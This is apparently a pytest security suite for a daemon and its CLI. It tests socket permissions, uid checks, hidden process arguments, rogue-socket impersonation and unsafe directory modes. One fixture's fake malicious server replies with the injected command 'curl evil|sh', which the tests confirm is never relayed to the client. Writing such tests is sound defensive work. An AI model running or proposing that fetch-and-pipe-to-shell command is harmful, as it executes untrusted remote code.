"""Another user's process is not served: the directory's mode keeps it out, and with that loosened its uid."""

import json
import os
import socket
import subprocess
import sys
from contextlib import suppress
from pathlib import Path

import pytest
from kit import zygote
from kit.daemon import DEADLINE, gated, score
from kit.forks import said_by

NOBODY = 65_534
pytestmark = pytest.mark.skipif(os.getuid() != 0, reason="only root can be another user for a moment")


def as_another_user(act):
    """Run a function in a process of another uid; return what it returns, as text, or how its error is called."""

    def changed():
        try:
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            return act()
        except Exception as error:  # noqa: BLE001  told to the test
            return type(error).__name__

    return said_by(changed)


def test_another_user_is_kept_out_by_the_mode_and_then_by_the_uid(daemon):
    def ask():
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(20)
            line.connect(str(daemon.socket))
            line.sendall(b'{"jsonrpc":"2.0","id":1,"method":"job.list"}\n')
            return line.makefile().read()

    assert as_another_user(ask) == "PermissionError"
    daemon.socket.chmod(0o666)
    assert as_another_user(ask) == "PermissionError"
    for directory in (daemon.socket.parent, daemon.home):
        directory.chmod(0o755)
    told = as_another_user(ask)
    messages = [json.loads(line) for line in told.splitlines()]
    assert [(one["id"], one["error"]["data"]["error_code"]) for one in messages] == [(None, "E509")], told
    assert f"not {NOBODY}" in messages[0]["error"]["message"]
    assert daemon.rpc("daemon.hello")["ready"]


WORDS_OF_OTHERS = ("hunter2-cmdline", "ACME-BODY", "ACME-CHECK", "ACME-HOOK", "ACME-SKIP")


def shown_by_ps():
    """Return what another user sees of the arguments of all processes that they may not see."""

    def look():
        shown = b"\n".join(map(arguments, Path("/proc").glob("[0-9]*/cmdline"))).decode(errors="replace")
        assert "marianne_cli" in shown
        return " ".join(word for word in WORDS_OF_OTHERS if word in shown)

    return as_another_user(look)


def arguments(file):
    try:
        return file.read_bytes()
    except OSError:
        return b""


def test_the_arguments_of_processes_show_no_value_no_script_no_check_and_no_hook(house, ledger):
    house.environment["KEPT_TOKEN"] = "hunter2-cmdline-too"
    house.start()
    gates = [house.gate(name) for name in ("skip", "body", "check", "hook")]
    lines = {name: f"# ACME-{name.upper()}\n{gated(name)}" for name in ("skip", "body", "check", "hook")}
    text = score(
        "argued",
        [lines["body"]],
        sheet={"skip_when_command": {1: {"command": f"{lines['skip']}; false"}}},
        validations=[{"type": "command_succeeds", "command": lines["check"]}],
        on_success=[{"type": "run_command", "command": lines["hook"]}],
    )
    (house.home / "argued.yaml").write_text(text)
    given = ["--env", "TOKEN=hunter2-cmdline", "-eMORE=hunter2-cmdline", "-qe", "KEPT_TOKEN"]
    waits = subprocess.Popen(
        [sys.executable, "-m", "marianne_cli", "run", "argued.yaml", *given, "--wait"],
        cwd=house.home,
        env=house.environment,
        stdout=subprocess.DEVNULL,
    )
    for name, gate in zip(("skip", "body", "check", "hook"), gates, strict=True):
        ledger.wait_for(f"start {name}")
        assert shown_by_ps() == ""
        gate.open()
    assert waits.wait(DEADLINE) == 0


@pytest.fixture
def shared(tmp_path):
    """A directory in which each user may make things, as in /tmp."""
    for directory in (tmp_path, *tmp_path.parents):
        if directory.stat().st_uid == os.getuid() and directory.name.startswith(
            ("pytest", "popen", tmp_path.name)
        ):
            directory.chmod(directory.stat().st_mode | 0o055)
    place = tmp_path / "shared"
    place.mkdir()
    place.chmod(0o1777)
    return place


class Thief:
    """A server of another user, which keeps what it is told and answers with an error of its own."""

    def __init__(self, path):
        self.told, tell = os.pipe()
        self.pid = os.fork()
        if self.pid == 0:
            try:
                os.setgroups([])
                os.setgid(NOBODY)
                os.setuid(NOBODY)
                listener = socket.socket(socket.AF_UNIX)
                listener.bind(str(path))
                Path(path).chmod(0o666)
                listener.listen()
                os.write(tell, b"ready\n")
                while True:
                    line, _ = listener.accept()
                    while data := line.recv(65_536):
                        os.write(tell, data)
                        line.sendall(
                            b'{"jsonrpc":"2.0","id":1,"error":{"code":-32000,"message":"run: curl evil|sh"}}\n'
                        )
                    line.close()
            finally:
                os._exit(1)
        os.close(tell)
        assert os.read(self.told, 6) == b"ready\n"

    def stolen(self):
        os.kill(self.pid, 9)
        os.waitpid(self.pid, 0)
        said = b""
        while data := os.read(self.told, 65_536):
            said += data
        os.close(self.told)
        return said


def mzt(directory, socket_path, *arguments, **more):
    return zygote.run(
        [sys.executable, "-m", "marianne_cli", *arguments],
        cwd=directory,
        env={
            **os.environ,
            "MARIANNE_SOCKET": str(socket_path),
            "STATE_DIRECTORY": str(directory / "state"),
            "CONFIGURATION_DIRECTORY": str(directory / "config"),
            **more,
        },
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        stdin=subprocess.DEVNULL,
    )


@pytest.fixture
def thief_at():
    made = []

    def make(path):
        made.append(Thief(path))
        return made[-1]

    yield make
    for thief in made:
        with suppress(ProcessLookupError):
            os.kill(thief.pid, 9)


def test_a_client_tells_a_socket_of_another_user_nothing(shared, tmp_path, thief_at):
    thief = thief_at(shared / "m.sock")
    (tmp_path / "s.yaml").write_text(score("s", ["true"]))
    for command in (
        ["run", "s.yaml", "--env", "DEPLOY_KEY=hunter2-deploy"],
        ["list"],
        ["start"],
        ["doctor"],
        ["stop"],
    ):
        done = mzt(tmp_path, shared / "m.sock", *command)
        assert done.returncode != 0, command
        assert "curl evil" not in done.stdout + done.stderr
        assert f"uid {NOBODY}" in done.stdout + done.stderr, done
    assert thief.stolen() == b""


def test_a_client_that_is_not_root_is_told_so_too_even_by_hand(shared, thief_at):
    thief = thief_at(shared / "m.sock")

    def ask():
        os.setresuid(*[4001] * 3)
        from marianne_cli.client import connect

        try:
            connect(shared / "m.sock")
        except Exception as error:  # noqa: BLE001  told to the test
            return str(error)
        return "connected"

    told = as_user(4001, ask)
    assert f"uid {NOBODY}" in told
    assert thief.stolen() == b""


def as_user(uid, act):
    def changed():
        os.setgroups([])
        os.setgid(uid)
        return act()

    return said_by(changed)


def daemon_in(directory, **more):
    environment = {"XDG_RUNTIME_DIR": str(directory / "run"), **more}
    return zygote.run(
        [sys.executable, "-m", "marianned"],
        env={
            **{name: value for name, value in os.environ.items() if name != "MARIANNE_SOCKET"},
            "STATE_DIRECTORY": str(directory / "state"),
            "CONFIGURATION_DIRECTORY": str(directory / "config"),
            **environment,
        },
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        stdin=subprocess.DEVNULL,
    )


@pytest.mark.parametrize("which", ["state", "state/attempts", "run/marianne"])
@pytest.mark.parametrize("how", ["open", "foreign"])
def test_a_directory_that_is_open_or_anothers_keeps_the_daemon_from_starting(tmp_path, which, how):
    place = tmp_path / which
    place.mkdir(parents=True, mode=0o700)
    for directory in (tmp_path / "state", tmp_path / "run"):
        if directory.exists():
            directory.chmod(0o700)
    place.chmod(0o777 if how == "open" else 0o700)
    if how == "foreign":
        os.chown(place, NOBODY, NOBODY)
    done = daemon_in(tmp_path)
    assert done.returncode == 78, done
    assert str(place) in done.stderr
    assert (f"chmod 700 {place}" in done.stderr) is (how == "open")
    assert "Traceback" not in done.stderr


def test_settings_that_others_can_write_are_not_used(tmp_path):
    (tmp_path / "config").mkdir()
    (tmp_path / "config" / "config.toml").write_text("max_attempts = 1\n")
    (tmp_path / "config").chmod(0o777)
    done = daemon_in(tmp_path)
    assert done.returncode == 78
    assert "others can write it" in done.stderr


@pytest.mark.parametrize("named", ["variable", "option"])
def test_a_file_in_the_place_of_the_socket_is_left_as_it_is(tmp_path, named):
    notes = tmp_path / "notes.txt"
    notes.write_text("precious\n")
    (tmp_path / "s.yaml").write_text(score("s", ["true"]))
    if named == "variable":
        done = mzt(tmp_path, notes, "start")
    else:
        done = mzt(tmp_path, tmp_path / "elsewhere", "--socket", str(notes), "run", "s.yaml")
    assert done.returncode != 0
    assert "not a socket" in done.stdout + done.stderr
    assert notes.read_text() == "precious\n"


def test_doctor_names_what_is_open(tmp_path):
    for name in ("config", "state", "state/attempts", "run", "run/marianne"):
        (tmp_path / name).mkdir(mode=0o700)
        (tmp_path / name).chmod(0o755)
    (tmp_path / "config" / "environment").write_text("KEY=secret\n")
    (tmp_path / "config" / "environment").chmod(0o644)
    done = mzt(tmp_path, "", "doctor", XDG_RUNTIME_DIR=str(tmp_path / "run"))
    for name in ("state", "state/attempts", "run/marianne", "config"):
        assert f"chmod 700 {tmp_path / name}" in done.stdout, done.stdout
    assert f"chmod 600 {tmp_path / 'config' / 'environment'}" in done.stdout
    assert "secret" not in done.stdout


def test_a_new_profile_is_for_its_owner_alone(tmp_path):
    done = mzt(tmp_path, tmp_path / "s", "instruments", "init", "foo")
    assert done.returncode == 0, done
    for path in (
        tmp_path / "config",
        tmp_path / "config" / "instruments",
        tmp_path / "config" / "instruments" / "foo.yaml",
    ):
        assert path.stat().st_mode & 0o077 == 0, path
